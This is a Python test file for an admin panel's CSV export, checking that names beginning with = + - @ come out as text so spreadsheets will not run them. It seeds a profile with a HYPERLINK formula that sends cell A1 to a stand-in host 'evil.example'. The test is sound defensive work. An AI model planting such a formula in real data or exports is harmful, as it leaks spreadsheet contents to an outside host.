"""The admin panel's CSV exports: a value that a spreadsheet would run as a formula (a name
starting with = + - @) is exported as text."""

import csv
import io

import httpx
from sqlalchemy import update
from sqlalchemy.ext.asyncio import AsyncEngine, AsyncSession

from app.accounts.models import Profile, Role
from app.catalog.models import Product
from tests.fixtures.inventory import LiveInventory
from tests.ops.conftest import CommittedUser, login

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'


def exported_rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text[:500]
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


async def test_names_that_look_like_formulas_are_exported_as_text(
    browser: httpx.AsyncClient,
    committed_user: CommittedUser,
    live_inventory: LiveInventory,
    engine: AsyncEngine,
) -> None:
    admin = await committed_user(Role.ADMIN)
    async with AsyncSession(engine) as session:
        session.add(Profile(user_id=admin.id, first_name=FORMULA, last_name="@SUM(1+1)"))
        await session.commit()
    product = await live_inventory.product()
    async with engine.begin() as connection:
        await connection.execute(
            update(Product).where(Product.id == product.id).values(name="+1-2 cheap")
        )
    assert (await login(browser, admin.email)).status_code == 302

    profiles = exported_rows(await browser.get("/admin/profile/export/csv"))
    (mine,) = [row for row in profiles if row["user_id"] == str(admin.id)]
    assert (mine["first_name"], mine["last_name"]) == (f"'{FORMULA}", "'@SUM(1+1)")
    assert mine["phone"] == "None"  # not text: left as SQLAdmin writes it

    products = exported_rows(await browser.get("/admin/product/export/csv"))
    (row,) = [row for row in products if row["sku"] == product.sku]
    assert row["name"] == "'+1-2 cheap"
    assert row["price"] == str(product.price)
